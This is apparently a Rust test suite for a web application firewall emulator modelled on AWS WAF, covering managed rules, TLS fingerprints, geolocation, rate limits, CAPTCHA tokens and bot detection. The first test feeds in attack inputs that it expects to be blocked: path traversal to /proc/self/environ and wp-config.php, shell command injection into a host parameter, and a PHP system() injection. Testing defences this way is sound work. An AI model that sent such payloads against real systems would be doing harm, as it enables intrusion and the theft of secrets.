        browser("/blog", "title=How+to+echo+a+variable+in+bash"),
        browser("/wp-content/themes/site/style.css", "ver=6.4"),
    ] {
        let v = decide(&acl, &r);
        assert_eq!(v.terminating_rule, "Default_Action", "{} {}: {v:?}", r.path, r.query);
    }
    let cases: [(Req, &str, &str); 7] = [
        (
            browser("/download", "file=../../proc/self/environ"),
            "LFI_QUERYSTRING",
            "awswaf:managed:aws:linux-os:LFI_QueryString",
        ),
        (browser("/static/..%2f..%2fproc/version", ""), "LFI_URIPATH", "awswaf:managed:aws:linux-os:LFI_URIPath"),
        (
            browser("/ping", "host=127.0.0.1%3Buname%20-a"),
            "UNIXShellCommandsVariables_QUERYARGUMENTS",
            "awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QUERYARGUMENTS",
        ),
        (
            browser("/ping", "host=x%7Cw'h'o'a'm'i"),
            "UNIXShellCommandsVariables_QUERYARGUMENTS",
            "awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QUERYARGUMENTS",
        ),
        (
            browser("/page", "q=%3C%3Fphp+system(%24_GET%5Bc%5D)%3B"),
            "PHPHighRiskMethodsVariables_QUERYSTRING",
            "awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_QueryString",
        ),
        (
            browser("/wp-admin/admin-ajax.php", "action=revslider_show_image&img=../wp-config.php"),
            "WordPressExploitableCommands_QUERYSTRING",
            "awswaf:managed:aws:wordpress-app:WordPressExploitableCommands_QUERYSTRING",
        ),
        (
            browser("/xmlrpc.php", ""),
            "WordPressExploitablePaths_URIPATH",
            "awswaf:managed:aws:wordpress-app:WordPressExploitablePaths_URIPATH",
        ),
    ];
    for (r, rule, label) in &cases {
        let v = decide(&acl, r);
        assert!(blocked(&v), "{rule}: {v:?}");
        assert_eq!(&v.terminating_rule, rule);
        assert!(v.labels.iter().any(|l| l == label), "{rule}: {:?}", v.labels);
    }
    let mut post = browser("/exec", "");
    post.method = "POST";
    post.headers.push(("Content-Type", "application/x-www-form-urlencoded"));
    post.body = b"cmd=%60id%60".to_vec();
    assert_eq!(decide(&acl, &post).terminating_rule, "UNIXShellCommandsVariables_BODY");
}

/// JA3 and JA4 fingerprints match the connection's; without TLS the fallback behaviour decides.
#[test]
fn ja3_and_ja4_fingerprints_match_the_connection_or_fall_back() {
    let ja3 = "cd08e31494f9531f560d64c695473da9";
    let ja4 = "t13d1516h2_8daaf6152771_e5627efa2ab1";
    let rule = |name: &str, field: &str, value: &str, fallback: &str| {
        format!(
            r#"{{"Name":"{name}","Priority":{},"Action":{{"Block":{{}}}},"Statement":{{"ByteMatchStatement":{{"SearchString":"{value}","FieldToMatch":{{"{field}":{{"FallbackBehavior":"{fallback}"}}}},"TextTransformations":[{{"Priority":0,"Type":"NONE"}}],"PositionalConstraint":"EXACTLY"}}}},{}}}"#,
            name.len(),
            vis(name),
            value = data_encoding::BASE64.encode(value.as_bytes())
        )
    };
    let by_ja3 = compiled(&format!("[{}]", rule("ja3", "JA3Fingerprint", ja3, "NO_MATCH")));
    let by_ja4 = compiled(&format!("[{}]", rule("ja4rule", "JA4Fingerprint", ja4, "NO_MATCH")));
    let fallback_match = compiled(&format!("[{}]", rule("plain", "JA3Fingerprint", ja3, "MATCH")));
    let chrome = Req { tls: Some(hello::Fingerprints { ja3: ja3.into(), ja4: ja4.into() }), ..get("/", "") };
    let other =
        Req { tls: Some(hello::Fingerprints { ja3: "0".repeat(32), ja4: "t12i000000_x_y".into() }), ..get("/", "") };
    let plain = get("/", "");
    assert!(blocked(&decide(&by_ja3, &chrome)));
    assert!(!blocked(&decide(&by_ja3, &other)));
    assert!(!blocked(&decide(&by_ja3, &plain)), "no TLS, NO_MATCH");
    assert!(blocked(&decide(&by_ja4, &chrome)));
    assert!(!blocked(&decide(&by_ja4, &other)));
    assert!(blocked(&decide(&fallback_match, &plain)), "no TLS, MATCH");
    assert!(!blocked(&decide(&fallback_match, &other)));
}

/// A rate rule keyed by JA4 counts each client fingerprint apart; a request without TLS is
/// decided by the key's fallback.
#[test]
fn rate_rules_aggregate_by_tls_fingerprint_and_fall_back_without_one() {
    let keyed = |fallback: &str| {
        rate_rule(&format!(
            r#"{{"Limit":10,"EvaluationWindowSec":60,"AggregateKeyType":"CUSTOM_KEYS",
                "CustomKeys":[{{"JA4Fingerprint":{{"FallbackBehavior":"{fallback}"}}}}]}}"#
        ))
    };
    let acl = keyed("NO_MATCH");
    let fingerprint = |ja4: &str| hello::Fingerprints { ja3: "0".repeat(32), ja4: ja4.into() };
    let bot = Req { tls: Some(fingerprint("t13d1516h2_8daaf6152771_e5627efa2ab1")), ..get("/", "") };
    for _ in 0..10 {
        assert!(!blocked(&decide(&acl, &bot)));
    }
    assert!(blocked(&decide(&acl, &bot)), "the 11th request of one fingerprint");
    let browser = Req { tls: Some(fingerprint("t13d1715h2_5b57614c22b0_3d5424432f57")), ..get("/", "") };
    assert!(!blocked(&decide(&acl, &browser)), "another fingerprint is another instance");
    let plain = get("/", "");
    for _ in 0..20 {
        assert!(!blocked(&decide(&acl, &plain)), "no TLS, NO_MATCH: never counted");
    }
    assert!(blocked(&decide(&keyed("MATCH"), &plain)), "no TLS, MATCH: the rule's action applies");
}

/// A geolocation database of two addresses.
#[derive(Debug)]
struct TwoPlaces;

impl fields::Locate for TwoPlaces {
    fn country(&self, ip: IpAddr) -> Option<String> {
        match ip.to_string().as_str() {
            "81.2.69.142" => Some("GB".into()),
            "216.160.83.56" => Some("US".into()),
            _ => None,
        }
    }
    fn asn(&self, ip: IpAddr) -> Option<u32> {
        (ip.to_string() == "81.2.69.142").then_some(20712)
    }
    fn region(&self, ip: IpAddr) -> Option<String> {
        (ip.to_string() == "81.2.69.142").then(|| "ENG".to_owned())
    }
}

/// Geo and ASN matches look the client's address up, or the first of a forwarded header, whose
/// absence the fallback decides; without a database they match nothing.
#[test]
fn geo_and_asn_matches_look_the_address_up() {
    let rule = |name: &str, priority: i32, statement: &str| {
        format!(
            r#"{{"Name":"{name}","Priority":{priority},"Action":{{"Block":{{}}}},"Statement":{statement},{}}}"#,
            vis(name)
        )
    };
    let by_country = compiled(&format!("[{}]", rule("gb", 0, r#"{"GeoMatchStatement":{"CountryCodes":["GB","FR"]}}"#)));
    let by_asn = compiled(&format!("[{}]", rule("as", 0, r#"{"AsnMatchStatement":{"AsnList":[20712]}}"#)));
    let forwarded = compiled(&format!(
        "[{}]",
        rule(
            "gbfwd",
            0,
            r#"{"GeoMatchStatement":{"CountryCodes":["GB"],"ForwardedIPConfig":{"HeaderName":"X-Forwarded-For","FallbackBehavior":"MATCH"}}}"#
        )
    ));
    let from = |ip: &str| Req { ip: ip.parse().unwrap(), locate: Some(Box::new(TwoPlaces)), ..get("/", "") };
    assert!(blocked(&decide(&by_country, &from("81.2.69.142"))));
    assert!(!blocked(&decide(&by_country, &from("216.160.83.56"))));
    assert!(!blocked(&decide(&by_country, &from("192.0.2.1"))), "an address the database does not know");
    assert!(blocked(&decide(&by_asn, &from("81.2.69.142"))));
    assert!(!blocked(&decide(&by_asn, &from("216.160.83.56"))));
    let no_database = Req { ip: "81.2.69.142".parse().unwrap(), ..get("/", "") };
    assert!(!blocked(&decide(&by_country, &no_database)), "no database: nothing matches");
    // Forwarded: the header's first address, not the client's; its absence falls back to MATCH.
    let mut proxied = from("216.160.83.56");
    proxied.headers.push(("X-Forwarded-For", "81.2.69.142, 216.160.83.56"));
    assert!(blocked(&decide(&forwarded, &proxied)));
    let mut us = from("81.2.69.142");
    us.headers.push(("X-Forwarded-For", "216.160.83.56"));
    assert!(!blocked(&decide(&forwarded, &us)));
    assert!(blocked(&decide(&forwarded, &from("216.160.83.56"))), "no header: the fallback");
    let mut garbage = from("81.2.69.142");
    garbage.headers.push(("X-Forwarded-For", "not an address"));
    assert!(blocked(&decide(&forwarded, &garbage)), "no address: the fallback");
}

/// A geo match labels every request it inspects with its country (and region, where the
/// database has one), matched or not, so a later rule can match the label.
#[test]
fn a_geo_match_labels_the_requests_it_inspects_with_their_country() {
    let rules = format!(
        r#"[{{"Name":"fr","Priority":0,"Action":{{"Count":{{}}}},"Statement":{{"GeoMatchStatement":{{"CountryCodes":["FR"]}}}},{}}},
            {{"Name":"gb-label","Priority":1,"Action":{{"Block":{{}}}},"Statement":{{"LabelMatchStatement":{{"Scope":"LABEL","Key":"awswaf:clientip:geo:country:GB"}}}},{}}}]"#,
        vis("fr"),
        vis("gb-label")
    );
    let acl = compiled(&rules);
    let from = |ip: &str| Req { ip: ip.parse().unwrap(), locate: Some(Box::new(TwoPlaces)), ..get("/", "") };
    let gb = decide(&acl, &from("81.2.69.142"));
    assert!(blocked(&gb));
    assert_eq!(gb.labels, ["awswaf:clientip:geo:region:GB-ENG", "awswaf:clientip:geo:country:GB"]);
    let us = decide(&acl, &from("216.160.83.56"));
    assert!(!blocked(&us));
    assert_eq!(us.labels, ["awswaf:clientip:geo:country:US"]);
}

/// A rate rule keyed by ASN counts each autonomous system apart; addresses the database does not
/// know are not counted.
#[test]
fn rate_rules_aggregate_by_autonomous_system() {
    let acl = rate_rule(
        r#"{"Limit":10,"EvaluationWindowSec":60,"AggregateKeyType":"CUSTOM_KEYS","CustomKeys":[{"ASN":{}}]}"#,
    );
    let from = |ip: &str| Req { ip: ip.parse().unwrap(), locate: Some(Box::new(TwoPlaces)), ..get("/", "") };
    for _ in 0..10 {
        assert!(!blocked(&decide(&acl, &from("81.2.69.142"))));
    }
    assert!(blocked(&decide(&acl, &from("81.2.69.142"))), "the 11th request of AS 20712");
    for _ in 0..20 {
        assert!(!blocked(&decide(&acl, &from("216.160.83.56"))), "no ASN known: not counted");
    }
}

#[test]
fn captcha_and_challenge_let_a_fresh_token_go_on_as_count_and_answer_anything_else() {
    use crate::tokens::{Kind, Token};
    let login = byte_match(r#"{"UriPath":{}}"#, "/login", "STARTS_WITH", NONE);
    // The CAPTCHA rule sets its own immunity (60 s); the challenge rule inherits the web ACL's.
    let rules = format!(
        r#"[{{"Name":"human","Priority":1,"Statement":{login},"Action":{{"Captcha":{{"CustomRequestHandling":{{"InsertHeaders":[{{"Name":"human","Value":"yes"}}]}}}}}},
              "CaptchaConfig":{{"ImmunityTimeProperty":{{"ImmunityTime":60}}}},"RuleLabels":[{{"Name":"gate:human"}}],{v1}}},
            {{"Name":"browser","Priority":2,"Statement":{{"NotStatement":{{"Statement":{{"LabelMatchStatement":{{"Scope":"LABEL","Key":"never"}}}}}}}},"Action":{{"Challenge":{{}}}},{v2}}}]"#,
        v1 = vis("h"),
        v2 = vis("b")
    );
    let mut web_acl = acl(&rules, r#"{"Allow":{}}"#);
    web_acl.challenge_config = Some(shape(r#"{"ImmunityTimeProperty":{"ImmunityTime":600}}"#));
    let compiled = WebAcl::compile(&web_acl, &References::default()).unwrap();
    let now = 1_700_000_000;
    let with = |captcha: Option<u64>, challenge: Option<u64>, domain: &str| Req {
        token: Some(Token {
            id: "s".into(),
            challenge_at: challenge,
            captcha_at: captcha,
            domain: domain.into(),
            browser: Default::default(),
        }),
        ..get("/login", "")
    };

    let v = decide(&compiled, &get("/login", ""));
    let Decision::Interstitial(Kind::Captcha, r) = &v.decision else { panic!("{v:?}") };
    assert_eq!((r.status, &r.headers[..]), (405, &[("x-amzn-waf-action".to_owned(), "captcha".to_owned())][..]));
    assert_eq!((v.terminating.action, v.terminating_rule.as_str()), ("CAPTCHA", "human"));
    assert_eq!(v.token_check.as_ref().unwrap().failure_reason, Some("TOKEN_MISSING"));
    assert_eq!(v.labels, [format!("{NS}gate:human")], "a matching rule labels whatever its action does");

    // A CAPTCHA solved 30 s ago passes the CAPTCHA rule; no challenge solved: the challenge answers.
    let v = decide(&compiled, &with(Some(now - 30), None, "example.com"));
    let Decision::Interstitial(Kind::Challenge, r) = &v.decision else { panic!("{v:?}") };
    assert_eq!(r.status, 202);
    assert_eq!(v.counted, ["human"]);
    assert_eq!(v.token_check.as_ref().unwrap().failure_reason, Some("TOKEN_MISSING"));

    // Both fresh: allowed, with the CAPTCHA action's header, and both rules counted.
    let v = decide(&compiled, &with(Some(now - 30), Some(now - 500), "example.com"));
    assert_eq!(v.decision, Decision::Allow { insert_headers: vec![("x-amzn-waf-human".into(), "yes".into())] });
    assert_eq!(v.counted, ["human", "browser"]);
    assert_eq!(v.token_check.as_ref().unwrap().solve_timestamp, Some(now - 500));

    // The rule's 60 s, not the web ACL's default 300 s; the web ACL's 600 s for the challenge.
    let v = decide(&compiled, &with(Some(now - 61), Some(now), "example.com"));
    assert_eq!(v.token_check.as_ref().unwrap().failure_reason, Some("TOKEN_EXPIRED"));
    let v = decide(&compiled, &with(Some(now), Some(now - 601), "example.com"));
    assert!(matches!(v.decision, Decision::Interstitial(Kind::Challenge, _)), "{v:?}");
    // A token of another domain does nothing here.
    let v = decide(&compiled, &with(Some(now), Some(now), "other.example"));
    assert_eq!(v.token_check.as_ref().unwrap().failure_reason, Some("TOKEN_DOMAIN_MISMATCH"));

    // A web ACL's token domains: a token for the parent domain is accepted on its hosts.
    web_acl.token_domains = Some(vec!["example.com".into()]);
    let compiled = WebAcl::compile(&web_acl, &References::default()).unwrap();
    let mut shop = with(Some(now), Some(now), "example.com");
    shop.headers = vec![("Host", "shop.example.com:8443")];
    assert!(matches!(decide(&compiled, &shop).decision, Decision::Allow { .. }));
    // …and one for the host itself too; but not one for a sibling host outside the list.
    let mut own = with(Some(now), Some(now), "shop.example.com");
    own.headers = vec![("Host", "shop.example.com")];
    assert!(matches!(decide(&compiled, &own).decision, Decision::Allow { .. }));
    let mut sibling = with(Some(now), Some(now), "www.example.com");
    sibling.headers = vec![("Host", "shop.example.com")];
    assert_eq!(decide(&compiled, &sibling).token_check.unwrap().failure_reason, Some("TOKEN_DOMAIN_MISMATCH"));
}

/// Lists as an operator imports them: one address per list here.
#[derive(Debug)]
struct Imported;

impl fields::Listed for Imported {
    fn listed(&self, list: &str, ip: IpAddr) -> bool {
        let on = match list {
            "AWSManagedIPReputationList" => "198.51.100.7",
            "AWSManagedIPDDoSList" => "198.51.100.8",
            "HostingProviderIPList" => "198.51.100.9",
            _ => return false,
        };
        ip.to_string() == on
    }
}

/// The IP reputation groups match the client's own address against the operator's lists, with
/// AWS's rule names, labels and actions (the DDoS list only counts); without lists, nothing.
#[test]
fn the_ip_reputation_groups_match_the_operators_lists_by_the_clients_own_address() {
    let acl = compiled(&format!(
        "[{},{}]",
        managed("AWSManagedRulesAmazonIpReputationList", 1, ""),
        managed("AWSManagedRulesAnonymousIpList", 2, "")
    ));
    let from = |ip: &str| Req { ip: ip.parse().unwrap(), lists: Some(Box::new(Imported)), ..get("/", "") };
    let v = decide(&acl, &from("198.51.100.7"));
    assert!(blocked(&v), "{v:?}");
    assert_eq!(v.terminating.group.as_ref().unwrap().1, "AWSManagedIPReputationList");
    assert_eq!(v.labels, ["awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"]);
    let v = decide(&acl, &from("198.51.100.8"));
    assert!(!blocked(&v), "the DDoS list's rule counts");
    assert_eq!(v.counted, ["AWSManagedIPDDoSList"]);
    assert_eq!(v.labels, ["awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList"]);
    let v = decide(&acl, &from("198.51.100.9"));
    assert_eq!(v.labels, ["awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList"]);
    assert!(blocked(&v));
    assert!(!blocked(&decide(&acl, &from("203.0.113.1"))));
    // A forwarded header naming a listed address is not the client's own.
    let forwarded = with_header(from("203.0.113.1"), "X-Forwarded-For", "198.51.100.7");
    assert!(!blocked(&decide(&acl, &forwarded)));
    // No lists imported: nothing matches.
    assert!(!blocked(&decide(&acl, &Req { ip: "198.51.100.7".parse().unwrap(), ..get("/", "") })));
}

/// Only the managed groups may name the operator's lists: a customer's IP set reference with
/// that ARN is an IP set like any other (here, one that does not exist).
#[test]
fn a_customers_rule_cannot_name_the_operators_lists() {
    let rules = format!(
        r#"[{{"Name":"sneaky","Priority":1,"Statement":{{"IPSetReferenceStatement":{{"ARN":"{}AWSManagedIPReputationList"}}}},"Action":{{"Block":{{}}}},{}}}]"#,
        crate::managed::LIST_ARN,
        vis("s")
    );
    assert!(WebAcl::compile(&acl(&rules, r#"{"Allow":{}}"#), &References::default()).is_err());
}

#[test]
fn an_ip_list_reads_as_feeds_publish_it() {
    let text = "# a feed\n; Spamhaus-style\n192.0.2.0/24 ; SBL123\n  198.51.100.7\n2001:db8::/32\tnote\nnot-an-address\n\n203.0.113.5,comment\n";
    let (ranges, skipped) = Ranges::parse_list(text);
    assert_eq!(skipped, 1);
    for ip in ["192.0.2.200", "198.51.100.7", "2001:db8::1", "203.0.113.5"] {
        assert!(ranges.contains(ip.parse().unwrap()), "{ip}");
    }
    assert!(!ranges.contains("198.51.100.8".parse().unwrap()));
    assert_eq!(ranges.len(), 4);
}

/// The operator's lists for Bot Control: Googlebot's published ranges, and a data centre.
#[derive(Debug)]
struct BotLists;

impl fields::Listed for BotLists {
    fn listed(&self, list: &str, ip: IpAddr) -> bool {
        match list {
            "VerifiedBot_googlebot" => ip.to_string().starts_with("66.249."),
            "HostingProviderIPList" => ip.to_string().starts_with("192.0.2."),
            _ => false,
        }
    }
}

/// A verdict's labels but Bot Control's token label.
fn bot_labels(v: &Verdict) -> Vec<String> {
    v.labels.iter().filter(|l| l.starts_with("awswaf:managed:aws:bot-control:")).cloned().collect()
}

/// Bot Control's common level: self-identifying bots blocked by their category unless the
/// operator's list verifies them (then only labelled), and the signals of bots that do not say
/// what they are.
#[test]
fn bot_control_blocks_unverified_bots_by_category_and_labels_verified_ones() {
    const NS: &str = "awswaf:managed:aws:bot-control:";
    let acl = compiled(&format!("[{}]", managed("AWSManagedRulesBotControlRuleSet", 1, "")));
    let from = |ip: &str, agent: Option<&'static str>| {
        let mut r = Req { ip: ip.parse().unwrap(), lists: Some(Box::new(BotLists)), ..get("/", "") };
        r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case("user-agent"));
        if let Some(a) = agent {
            r.headers.push(("User-Agent", a));
        }
        r
    };
    let googlebot = Some("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");
    let v = decide(&acl, &from("203.0.113.5", googlebot));
    assert!(blocked(&v), "a Googlebot not from Google's ranges");
    assert_eq!(v.terminating.group.as_ref().unwrap().1, "CategorySearchEngine");
    assert_eq!(bot_labels(&v), [format!("{NS}bot:category:search_engine"), format!("{NS}bot:name:googlebot")]);
    let v = decide(&acl, &from("66.249.66.1", googlebot));
    assert!(!blocked(&v), "{v:?}");
    assert_eq!(
        bot_labels(&v),
        [format!("{NS}bot:category:search_engine"), format!("{NS}bot:name:googlebot"), format!("{NS}bot:verified")],
        "verified: labelled, no signal looked for"
    );
    let v = decide(&acl, &from("203.0.113.5", Some("curl/8.5.0")));
    assert_eq!(v.terminating.group.as_ref().unwrap().1, "CategoryHttpLibrary");
    let chrome =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
    let v = decide(&acl, &from("203.0.113.5", Some(chrome)));
    assert!(!blocked(&v) && bot_labels(&v).is_empty(), "{v:?}");
    // Bot Control's token management labels every request it inspects by its token's challenge.
    assert_eq!(v.labels, ["awswaf:managed:token:absent", "awswaf:managed:captcha:absent"]);
    let token = |challenge_at: u64, captcha_at: Option<u64>, domain: &str| crate::tokens::Token {
        id: "s1".into(),
        challenge_at: Some(challenge_at),
        captcha_at,
        domain: domain.into(),
        browser: Default::default(),
    };
    let now = get("/", "").now;
    let with_token = |t| Req { token: Some(t), ..from("203.0.113.5", Some(chrome)) };
    let labels = |t| decide(&acl, &with_token(t)).labels;
    let id = "awswaf:managed:token:id:s1";
    assert_eq!(
        labels(token(now - 10, None, "example.com")),
        [
            id,
            "awswaf:managed:token:accepted",
            "awswaf:managed:captcha:rejected",
            "awswaf:managed:captcha:rejected:not_solved"
        ]
    );
    assert_eq!(
        labels(token(now - 301, Some(now - 20), "example.com")),
        [
            id,
            "awswaf:managed:token:rejected",
            "awswaf:managed:token:rejected:expired",
            "awswaf:managed:captcha:accepted"
        ]
    );
    assert_eq!(
        labels(token(now, Some(now), "elsewhere.com")),
        [
            id,
            "awswaf:managed:token:rejected",
            "awswaf:managed:token:rejected:domain_mismatch",
            "awswaf:managed:captcha:rejected",
            "awswaf:managed:captcha:rejected:domain_mismatch"
        ]
    );
    assert_eq!(
        decide(&acl, &Req { forged: true, ..from("203.0.113.5", Some(chrome)) }).labels,
        [
            "awswaf:managed:token:rejected",
            "awswaf:managed:token:rejected:invalid",
            "awswaf:managed:captcha:rejected",
            "awswaf:managed:captcha:rejected:invalid"
        ]
    );
    let signal = |ip: &str, agent| {
        let v = decide(&acl, &from(ip, agent));
        assert!(blocked(&v), "{agent:?}");
        (v.terminating.group.clone().unwrap().1, bot_labels(&v))
    };
    let headless = Some(
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0 Safari/537.36",
    );
    assert_eq!(
        signal("203.0.113.5", headless),
        ("SignalAutomatedBrowser".to_owned(), vec![format!("{NS}signal:automated_browser")])
    );
    assert_eq!(signal("192.0.2.10", Some(chrome)).0, "SignalKnownBotDataCenter");
    assert_eq!(signal("203.0.113.5", Some("ShopApp/3.1 (iOS 17.4)")).0, "SignalNonBrowserUserAgent");
    assert_eq!(signal("203.0.113.5", None).0, "SignalNonBrowserUserAgent");

    // An HTTP library allowed by an override counts, and is no non-browser signal either.
    let overridden = compiled(&format!(
        "[{}]",
        managed(
            "AWSManagedRulesBotControlRuleSet",
            1,
            r#","RuleActionOverrides":[{"Name":"CategoryHttpLibrary","ActionToUse":{"Count":{}}}]"#
        )
    ));
    let v = decide(&overridden, &from("203.0.113.5", Some("curl/8.5.0")));
    assert!(!blocked(&v), "{v:?}");
    assert_eq!(v.counted, ["CategoryHttpLibrary"]);
    let group = ("AWSManagedRulesBotControlRuleSet".to_owned(), true);
    assert_eq!(v.counted_metrics, [group], "the group's rule samples what it counted");
    assert_eq!(bot_labels(&v), [format!("{NS}bot:category:http_library"), format!("{NS}bot:name:curl")]);
}

/// Bot Control's targeted level: clients without a token challenged after five requests, a
/// session's volume, what the token's browser told, a token used from many addresses; nothing
/// of it at the common level.
#[test]
fn bot_control_targeted_rules_challenge_and_captcha_by_token_and_traffic() {
    const NS: &str = "awswaf:managed:aws:bot-control:";
    let config = r#","ManagedRuleGroupConfigs":[{"AWSManagedRulesBotControlRuleSet":{"InspectionLevel":"TARGETED"}}]"#;
    let targeted = compiled(&format!("[{}]", managed("AWSManagedRulesBotControlRuleSet", 1, config)));
    let common = compiled(&format!("[{}]", managed("AWSManagedRulesBotControlRuleSet", 1, "")));
    let from = |ip: &str, token: Option<crate::tokens::Token>| Req {
        ip: ip.parse().unwrap(),
        token,
        lists: Some(Box::new(BotLists)),
        ..browser("/products", "")
    };
    let terminating = |acl: &WebAcl, r: &Req| decide(acl, r).terminating.group.map(|g| g.1).unwrap_or_default();
    // Five requests without a token pass; the sixth from that address is challenged.
    for _ in 0..5 {
        assert_eq!(terminating(&targeted, &from("203.0.113.1", None)), "");
    }
    let v = decide(&targeted, &from("203.0.113.1", None));
    assert!(matches!(v.decision, Decision::Interstitial(crate::tokens::Kind::Challenge, _)), "{v:?}");
    assert_eq!(v.terminating.group.map(|g| g.1).as_deref(), Some("TGT_VolumetricIpTokenAbsent"));
    assert!(v.labels.contains(&format!("{NS}targeted:aggregate:volumetric:ip:token_absent")));
    assert_eq!(terminating(&targeted, &from("203.0.113.2", None)), "", "another address counts apart");
    for _ in 0..10 {
        assert_eq!(terminating(&common, &from("203.0.113.3", None)), "", "the common level has no TGT_ rules");
    }
    // A client with a token solved by its own browser passes, however many requests it sends
    // (short of a session's high volume).
    let now = get("/", "").now;
    let agent = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let token = |id: &str, browser: crate::tokens::Browser| crate::tokens::Token {
        id: id.into(),
        challenge_at: Some(now - 5),
        captcha_at: None,
        domain: "shop.example.com".into(),
        browser,
    };
    let honest = crate::tokens::Browser::observed(Some(agent), Some(std::str::from_utf8(agent).unwrap()), false);
    for _ in 0..10 {
        assert_eq!(terminating(&targeted, &from("203.0.113.1", Some(token("s1", honest.clone())))), "");
    }
    // What the browser told: automation, or another user agent than its requests send.
    let automated = crate::tokens::Browser { automated: true, ..honest.clone() };
    let v = decide(&targeted, &from("203.0.113.4", Some(token("s2", automated))));
    assert!(matches!(v.decision, Decision::Interstitial(crate::tokens::Kind::Captcha, _)), "{v:?}");
    assert_eq!(v.terminating.group.map(|g| g.1).as_deref(), Some("TGT_SignalAutomatedBrowser"));
    let elsewhere = crate::tokens::Browser::observed(Some(b"curl/8.5.0"), None, false);
    assert_eq!(
        terminating(&targeted, &from("203.0.113.4", Some(token("s3", elsewhere)))),
        "TGT_SignalBrowserInconsistency"
    );
    // A token used from a sixth address is labelled a token reused (Count).
    for i in 1..=5 {
        assert_eq!(terminating(&targeted, &from(&format!("198.51.100.{i}"), Some(token("s4", honest.clone())))), "");
    }
    let v = decide(&targeted, &from("198.51.100.6", Some(token("s4", honest.clone()))));
    assert!(matches!(v.decision, Decision::Allow { .. }), "{v:?}");
    assert!(v.labels.contains(&format!("{NS}targeted:aggregate:volumetric:session:token_reuse:ip")), "{v:?}");
    assert!(v.counted.contains(&"TGT_TokenReuseIp".to_owned()));
    // A session's volume: low, medium, then high, which the CAPTCHA answers.
    let mut last = None;
    for _ in 0..2000 {
        last = Some(decide(&targeted, &from("203.0.113.9", Some(token("s5", honest.clone())))));
    }
    let v = last.unwrap();
    assert_eq!(v.terminating.group.map(|g| g.1).as_deref(), Some("TGT_VolumetricSession"));
    assert!(v.labels.contains(&format!("{NS}targeted:aggregate:volumetric:session:high")));
    let v = decide(&targeted, &from("203.0.113.9", Some(token("s6", honest.clone()))));
    assert!(!v.labels.iter().any(|l| l.contains("volumetric:session:")), "{v:?}");
}
